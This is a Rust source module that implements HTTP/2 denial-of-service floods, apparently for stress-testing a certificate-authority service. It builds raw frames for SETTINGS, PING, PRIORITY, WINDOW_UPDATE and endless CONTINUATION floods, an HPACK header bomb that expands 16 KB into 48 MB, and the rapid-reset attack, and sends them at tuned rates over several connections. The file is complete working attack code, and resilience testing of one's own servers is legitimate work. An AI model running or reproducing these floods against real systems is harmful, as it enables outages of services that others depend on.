//! HTTP/2 that asks for nothing: frames as fast as they are taken, on few connections.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt, sink};

use crate::attacker::{Attacker, Tally, source};
use crate::http2::{
    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, ask, fields, frame, preface,
};

/// Connections of each flood; what the CA may spend on one is told by the table.
pub(crate) const CONNECTIONS: usize = 8;

pub(crate) async fn settings(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, Vec::new(), frame(SETTINGS, 0, 0, &[])).await
}

pub(crate) async fn ping(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, Vec::new(), frame(PING, 0, 0, &[7; 8])).await
}

pub(crate) async fn priority(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, Vec::new(), frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16])).await
}

pub(crate) async fn window(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, Vec::new(), frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
}

/// A header that never ends, of frames that are empty: no limit of its length is ever reached.
pub(crate) async fn continuation(attacker: Attacker) -> anyhow::Result<()> {
    let begin = frame(HEADERS, END_STREAM, 1, &fields(GET, "/v1/trust"));
    flood(attacker, begin, frame(CONTINUATION, 0, 1, &[])).await
}

/// A header of 3 KB is put into the table, then named again by one byte each: 16 KB are 48 MB.
pub(crate) async fn header_bomb(attacker: Attacker) -> anyhow::Result<()> {
    let mut block = fields(GET, "/v1/trust");
    // Literal with indexing, a new name (RFC 7541 §6.2.1); 3,000 as an integer of a 7-bit prefix.
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
    block.extend_from_slice(&[b'a'; 3000]);
    let begin = frame(HEADERS, END_STREAM | END_HEADERS, 1, &block);
    // The newest of the dynamic table is 62.
    flood_by_streams(attacker, begin, |stream| {
        let mut block = fields(GET, "/v1/trust");
        block.resize(16_000, 0x80 | 62);
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
    })
    .await
}

/// Rapid reset: a request that is taken back with the next frame.
pub(crate) async fn reset(attacker: Attacker) -> anyhow::Result<()> {
    flood_by_streams(attacker, Vec::new(), |stream| {
        let mut frames = ask("/v1/openapi.json", stream);
        frames.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        frames
    })
    .await
}

/// The same frame again and again.
async fn flood(attacker: Attacker, begin: Vec<u8>, frame: Vec<u8>) -> anyhow::Result<()> {
    let count = (BATCH / frame.len()).max(1);
    let batch: Arc<[u8]> = frame.repeat(count).into();
    repeat(attacker, begin, move |_| (Arc::clone(&batch), count)).await
}

/// A frame for each stream, one after the other.
async fn flood_by_streams(
    attacker: Attacker,
    begin: Vec<u8>,
    of: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
) -> anyhow::Result<()> {
    let batch = move |turn: u32| {
        let first = 3 + turn * 2 * STREAMS_A_BATCH;
        let batch: Vec<u8> = (0..STREAMS_A_BATCH).flat_map(|n| of(first + 2 * n)).collect();
        (batch.into(), STREAMS_A_BATCH as usize)
    };
    repeat(attacker, begin, batch).await
}

async fn repeat(
    attacker: Attacker,
    begin: Vec<u8>,
    batch: impl Fn(u32) -> (Arc<[u8]>, usize) + Clone + Send + Sync + 'static,
) -> anyhow::Result<()> {
    let (door, begin) = (attacker.stranger()?.speaking(b"h2"), Arc::<[u8]>::from(begin));
    let open = move |number| {
        let door = door.clone().from(source(number, CONNECTIONS));
        async move { door.open().await }
    };
    let behave = move |tally, stream| send(tally, stream, Arc::clone(&begin), batch.clone());
    attacker.with_many(CONNECTIONS, AGAIN, open, behave).await
}

/// Writes at a pace that costs the attacker little, and throws away what comes back.
async fn send<IO: AsyncRead + AsyncWrite>(
    tally: Arc<Tally>,
    stream: IO,
    begin: Arc<[u8]>,
    batch: impl Fn(u32) -> (Arc<[u8]>, usize) + Send + Sync,
) -> io::Result<()> {
    let (mut from, mut to) = tokio::io::split(stream);
    let writing = async {
        to.write_all(&preface(&[])).await?;
        to.write_all(&begin).await?;
        let mut pace = tokio::time::interval(PACE);
        for turn in 0.. {
            pace.tick().await;
            let (bytes, count) = batch(turn);
            to.write_all(&bytes).await?;
            to.flush().await?;
            tally.sent(count);
        }
        Ok(())
    };
    let reading = async {
        let ended = tokio::io::copy(&mut from, &mut sink()).await;
        ended.map(drop)
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

/// 800 KB a second on each connection: 90,000 of the smallest frames.
const BATCH: usize = 8 * 1024;
const PACE: Duration = Duration::from_millis(10);
const STREAMS_A_BATCH: u32 = 50;
const AGAIN: Duration = Duration::from_secs(1);
